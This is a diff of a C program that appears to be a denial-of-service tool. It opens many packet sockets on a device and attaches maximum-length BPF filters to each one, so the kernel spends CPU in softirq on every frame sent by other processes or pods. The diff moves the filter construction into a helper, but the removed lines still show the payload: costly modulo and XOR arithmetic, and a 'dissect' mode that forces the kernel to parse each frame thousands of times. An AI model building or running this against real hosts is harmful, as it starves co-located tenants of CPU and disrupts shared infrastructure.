@@ -1,7 +1,6 @@
 /* packet_filters DEVICE SOCKETS [divide|dissect]: opens packet sockets whose filters of 4096 instructions run in softirq
  * for every frame, in whoever writes the frame to the device. Needs CAP_NET_RAW, which pods have by default. */
 #include <arpa/inet.h>
-#include <linux/filter.h>
 #include <linux/if_ether.h>
 #include <linux/if_packet.h>
 #include <net/if.h>
@@ -9,12 +8,10 @@
 #include <sys/socket.h>
 #include <sys/wait.h>
 
-#include "attack.h"
+#include "filter.h"
 
 /* Sockets of a process. */
 #define A_PROCESS 32
-
-static struct sock_filter code[BPF_MAXINSNS];
 
 /* Opens that many sockets, or as many as there is memory for. */
 static long open_sockets(long wanted, const struct sock_fprog *program, const struct sockaddr_ll *address) {
@@ -35,16 +32,7 @@ int main(int argc, char **argv) {
     raise_descriptor_limit();
     if (argc < 2) return 2;
     long wanted = argument(argc, argv, 2, 200), made = 0;
-    /* "divide" is arithmetic. "dissect" has the kernel parse the frame again for each of 3 000 instructions, which is as
-     * many as a socket may hold (net.core.optmem_max) once they are translated. */
-    int dissections = argc > 3 && !strcmp(argv[3], "dissect") ? 3000 : 0;
-    for (int i = 0; i < BPF_MAXINSNS; i++) {
-        code[i] = i < dissections ? (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, SKF_AD_OFF + SKF_AD_PAY_OFFSET)
-                : i % 2           ? (struct sock_filter)BPF_STMT(BPF_ALU | BPF_MOD | BPF_K, 0x10001)
-                                  : (struct sock_filter)BPF_STMT(BPF_ALU | BPF_XOR | BPF_K, 0xFEDCBA98);
-    }
-    code[BPF_MAXINSNS - 1] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, 0);
-    struct sock_fprog program = {BPF_MAXINSNS, code};
+    struct sock_fprog program = long_filter(argc > 3 ? argv[3] : NULL);
     struct sockaddr_ll address = {
         .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = (int)if_nametoindex(argv[1])};
     if (!address.sll_ifindex) die("%s", argv[1]);
